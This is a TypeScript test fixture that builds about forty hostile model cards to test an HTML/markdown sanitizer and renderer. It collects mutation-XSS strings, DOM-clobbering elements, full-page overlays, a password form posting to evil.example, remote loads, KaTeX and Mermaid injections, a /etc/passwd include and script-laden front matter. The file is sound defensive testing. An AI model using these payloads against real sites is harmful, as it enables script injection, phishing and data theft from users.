/** Runs in place of an attacker's script: the test's browser notices `attacked`, dialogs and changed titles. */
export const SCRIPT = "attacked('script');document.title='attacked';alert('attacked')"

const OVERLAY = 'position:fixed;inset:0;z-index:2147483647;background:red'
/** Markup that needs a surrounding element of another language to run: parser mutations, names that shadow the page's own, styles, formulas, diagrams. */
const BODIES: readonly string[] = [
	// Parsed one way by the sanitizer and another way by the browser.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror="${SCRIPT}">`,
	`<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
	`<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>"></noscript>`,
	`<xmp><p title="</xmp><img src=x onerror=${SCRIPT}>">`,
	`<textarea><p title="</textarea><img src=x onerror=${SCRIPT}>">`,
	`<title><p title="</title><img src=x onerror=${SCRIPT}>">`,
	`<noembed><img title="</noembed><img src onerror=${SCRIPT}>"></noembed>`,
	`<select><option><style></select><script>${SCRIPT}</script></style></option></select>`,
	`<table><td><math><annotation-xml encoding="text/html"><style><img src onerror="${SCRIPT}">`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe></foreignObject></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${SCRIPT}'/></svg>#x"/></svg>`,
	`<svg><a><animate attributeName="href" values="javascript:${SCRIPT}"/><text y="20">click</text></a></svg>`,
	`<svg><set attributeName="onmouseover" to="${SCRIPT}"/><text y="20">over</text></svg>`,
	`<div><template shadowrootmode="open"><img src onerror="${SCRIPT}"><slot></slot></template></div>`,
	`<a href="&#x6A;&#x61;vascript&colon;${SCRIPT}">one</a> <a href="java&Tab;script:${SCRIPT}">two</a>`,
	`[one](<java\tscript:${SCRIPT}>) [two](\u0001javascript:void) <javascript:${SCRIPT}>`,
	`<!--><img src onerror="${SCRIPT}">--> <!----!><img src onerror="${SCRIPT}"> <![CDATA[><img src onerror="${SCRIPT}">]]>`,
	`<!DOCTYPE html [<!ENTITY x "<script>${SCRIPT}</script>">]><p>&x;</p>`,
	`<plaintext><img src onerror="${SCRIPT}">`,
	// Names that scripts of the page look up.
	[
		'body',
		'head',
		'cookie',
		'forms',
		'querySelector',
		'getElementById',
		'documentElement',
		'addEventListener',
		'defaultView',
		'currentScript',
	]
		.map((name) => `<img name="${name}" id="${name}" src="a.png"><form name="${name}" id="${name}"><input name="action"></form>`)
		.join('\n'),
	['location', 'fetch', 'localStorage', 'customElements', 'navigator', 'Promise', 'csrf', '__proto__', 'constructor', 'attacked']
		.map((name) => `<a id="${name}" name="${name}" href="https://evil.example/">x</a><a id="${name}">y</a><p id="${name}">z</p>`)
		.join('\n'),
	'# body\n\n# head\n\n# cookie\n\n# __proto__\n\n# constructor\n\n# querySelector\n\n[^hasOwnProperty]\n\n[^hasOwnProperty]: x',
	'<input type="hidden" name="csrf" value="mine"><meta name="csrf" content="mine"><input name="csrf" value="mine">',
	`<stoa-island src="https://evil.example/x.js" props="{}"></stoa-island><stoa-island src="/mallory/files/resolve/main/x.js" name="x"></stoa-island>`,
	// Styles that cover the page, send away what it shows, or take its clicks.
	`<style>@import 'https://evil.example/x.css';header{display:none}</style><div style="${OVERLAY}">Signed out</div>`,
	`<p style="background:url(https://evil.example/p)">x</p><table background="https://evil.example/x.png"><tr><td>x</table><font style="${OVERLAY}">x</font>`,
	`<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">`,
	`<div class="fixed absolute modal overlay dialog tooltip menu" style="${OVERLAY}" popover="manual" id="pop">x</div><dialog open style="${OVERLAY}">Sign in again</dialog>`,
	`<form action="https://evil.example/" method="post"><input name="password" type="password"><button>Sign in</button></form><button form="x" formaction="javascript:${SCRIPT}">x</button>`,
	// Loads from other hosts.
	'<img src="https://evil.example/1"><img srcset="https://evil.example/2 1x"><picture><source srcset="//evil.example/3"><img src="//evil.example/4"></picture> ![x](https://evil.example/5 "x")',
	'<video autoplay poster="https://evil.example/6" src="https://evil.example/7"><track src="https://evil.example/8"></video><audio autoplay src="//evil.example/9"></audio><input type="image" src="//evil.example/10">',
	`<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="data:text/html,<script>${SCRIPT}</script>"><portal src="https://evil.example/"></portal>`,
	'<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><a href="x" ping="https://evil.example/ping">x</a>',
	// Formulas.
	`$\\href{javascript:${SCRIPT}}{x}$ $\\url{javascript:${SCRIPT}}$ $\\htmlData{onclick=${SCRIPT}}{x}$ $\\htmlStyle{${OVERLAY}}{x}$ $\\includegraphics{https://evil.example/x.png}$`,
	`$$\\text{<img src=x onerror=${SCRIPT}>} \\class{x" onmouseover="${SCRIPT}}{y} \\htmlId{body}{z} \\unicode{<script>${SCRIPT}</script>}$$`,
	`$\\def\\a{\\a\\a}\\a$ $\\htmlClass{fixed}{x}$ $\\rule{9999em}{9999em}$ $\\kern{-9999em}\\smash{\\rule{9999em}{9999em}}$`,
	`\`\`\`math\n\\href{javascript:${SCRIPT}}{x} \\htmlStyle{${OVERLAY}}{y} \\raisebox{-9999em}{z}\n\`\`\`\n\n\\\\(\\text{</math><img src=x onerror=${SCRIPT}>}\\\\) \\\\[\\text{--></annotation><script>${SCRIPT}</script>}\\\\]`,
	`$\\rule{99em}{99em}\\kern{-99em}\\smash{\\raisebox{90em}{\\rule{99em}{99em}}}$\n\n$$\\llap{\\rule{99em}{99em}}\\smash{\\raisebox{80em}{\\colorbox{red}{\\rule{99em}{99em}}}}$$`,
	`<span class="formula formula-display" data-tex="x"><math><maction actiontype="statusline" xlink:href="javascript:${SCRIPT}">x</maction></math></span>\n\n<span class="insertion-0"></span><ul class="card-gallery"><li>x</li></ul>`,
	// Galleries.
	`<Gallery />\n\n<Gallery onclick="${SCRIPT}"></Gallery>\n\n<gallery><img src onerror="${SCRIPT}"></gallery>\n\n[x](y "<Gallery />") <p title="<Gallery />">z</p>`,
	// Diagrams.
	`\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${SCRIPT}>"] --> B@{ icon: "x", label: "<img src=x onerror=attacked(1)>" }\n  click A href "javascript:attacked(2)"\n  click B call attacked("x")\n\`\`\``,
	`\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import 'https://evil.example/x.css'; * {position:fixed}"}}%%\nflowchart TB\n  A["<script>attacked(3)</script>"] --> B["<iframe src='https://evil.example/'>"]\n\`\`\``,
	`\`\`\`mermaid\n---\ntitle: "<img src=x onerror=attacked(4)>"\nconfig:\n  securityLevel: loose\n  fontFamily: "x;background:url(https://evil.example/f)"\n---\nsequenceDiagram\n  participant A as <img src=x onerror=attacked(5)>\n  A->>B: <svg onload=attacked(6)>\n  link A: x @ javascript:attacked(7)\n\`\`\``,
	// Attributes that scripts of the page act on.
	`\`\`\`js" onload="${SCRIPT}\nx\n\`\`\`\n\n\`\`\`<img/src=x/onerror=${SCRIPT}>\nx\n\`\`\``,
	`> [!NOTE]\n> <img src onerror="${SCRIPT}">\n\n- [ ] <svg onload="${SCRIPT}">\n\n| <img src onerror="${SCRIPT}"> |\n| --- |\n| <details open ontoggle="${SCRIPT}"> |`,
	`<details open ontoggle="${SCRIPT}"><summary>x</summary></details><input autofocus onfocus="${SCRIPT}"><video><source onerror="${SCRIPT}"></video><marquee onstart="${SCRIPT}">x</marquee>`,
	`<Tip onclick="${SCRIPT}">x</Tip> {attacked('jsx')} {@html '<img src onerror=attacked(8)>'} <include>{"path": "../../../../etc/passwd"}</include> <svelte:head><script>${SCRIPT}</script></svelte:head>`,
]

const word = (place: string): string => `"><img src=x onerror="attacked('${place}')"><script>attacked('${place}')</script>`

/** Front matter in which every field would run if it were not escaped. */
export function hostileMatter(more: readonly string[] = []): string {
	const quoted = (place: string): string => JSON.stringify(word(place))
	return [
		'---',
		`title: ${quoted('title')}`,
		`tags: [${quoted('tag')}, "javascript:attacked('tag')"]`,
		'license: other',
		`license_name: ${quoted('license')}`,
		'license_link: "javascript:attacked(\'license\')"',
		`language: [${quoted('language')}]`,
		`library_name: ${quoted('library')}`,
		`base_model: ${quoted('base')}`,
		`datasets: [${quoted('dataset')}]`,
		`metrics: [${quoted('metric')}]`,
		`widget: [{text: ${quoted('widget')}, example_title: ${quoted('example')}, src: "javascript:attacked('src')"}, {text: ${quoted('prompt')}, output: {url: "javascript:attacked('url')", text: ${quoted('output')}}}, {output: {url: "https://evil.example/12"}}, {output: [{label: ${quoted('label')}, score: 1}]}]`,
		`model-index: [{name: ${quoted('model')}, results: [{task: {type: ${quoted('task')}, name: ${quoted('task')}}, dataset: {name: ${quoted('data')}, type: x}, metrics: [{type: ${quoted('type')}, value: ${quoted('value')}, name: ${quoted('metric')}}]}]}]`,
		`emoji: ${quoted('emoji')}`,
		`short_description: ${JSON.stringify('<svg onload="attacked(1)">')}`,
		`thumbnail: "javascript:attacked('thumbnail')"`,
		`extra_gated_heading: ${quoted('gate')}`,
		`extra_gated_prompt: ${quoted('prompt')}`,
		`extra_gated_button_content: ${quoted('button')}`,
		`extra_gated_fields: {${quoted('field')}: text, Use: {type: select, options: [${quoted('option')}]}}`,
		...more,
		'---',
		'',
	].join('\n')
}

/** At least 40 cards. */
export const HOSTILE_CARDS: readonly string[] = BODIES.map(
	(body, index) => `${index % 4 === 0 ? hostileMatter() : ''}# Card ${index}\n\n${body}\n\nEnd.\n`,
)
